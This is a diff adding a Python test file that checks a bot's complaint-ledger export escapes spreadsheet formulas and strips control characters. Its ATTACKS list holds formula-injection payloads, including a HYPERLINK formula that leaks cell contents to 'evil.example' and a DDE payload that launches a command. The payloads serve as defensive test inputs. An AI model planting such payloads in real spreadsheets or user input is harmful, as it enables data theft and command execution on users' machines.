@@ -1,0 +1,61 @@
+"""Whatever a user typed reaches a workbook as text: never a formula, never a broken file."""
+
+from __future__ import annotations
+
+import io
+
+from openpyxl import Workbook, load_workbook
+
+from bot.services import Services
+from reports import complaints as complaint_reports
+from reports.cells import append_row, workbook_bytes
+from tests.conftest import SHANGHAI
+
+from .helpers import file
+
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_cells_that_would_be_formulas_are_written_as_escaped_text() -> None:
+    workbook = Workbook()
+    sheet = workbook.active
+    for attack in ATTACKS:
+        append_row(sheet, [attack, 42])
+    append_row(sheet, ["plain text", "注射器漏液"])
+    reloaded = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
+    cells = [row[0] for row in reloaded.iter_rows(max_row=len(ATTACKS))]
+    assert all(cell.data_type == "s" for cell in cells)
+    # (XML turns a carriage return into a line feed; the apostrophe is what matters)
+    assert [cell.value for cell in cells] == ["'" + a.replace("\r", "\n") for a in ATTACKS]
+    assert reloaded.cell(row=1, column=2).value == 42  # numbers stay numbers
+    assert [c.value for c in reloaded[len(ATTACKS) + 1]] == ["plain text", "注射器漏液"]
+
+
+async def test_a_ledger_with_formulas_and_control_characters_in_descriptions_still_opens(
+    services: Services, samples: None
+) -> None:
+    await file(services, "C001", description='=HYPERLINK("http://x","y")')
+    await file(services, "C003", description="leaks\x0b at the tip\x00")
+    await file(services, "C001", description="ordinary")
+
+    async with services.session_factory() as session:
+        rows = await complaint_reports.ledger_rows(session)
+    content = complaint_reports.ledger_workbook(rows, lambda key: key, SHANGHAI)
+    sheet = load_workbook(io.BytesIO(content)).active
+    header = [cell.value for cell in sheet[1]]
+    column = header.index("report.column.description") + 1
+    descriptions = [sheet.cell(row=r, column=column) for r in range(2, 5)]
+    assert [c.value for c in descriptions] == [
+        '\'=HYPERLINK("http://x","y")',
+        "leaks at the tip",
+        "ordinary",
+    ]
+    assert all(c.data_type == "s" for c in descriptions)
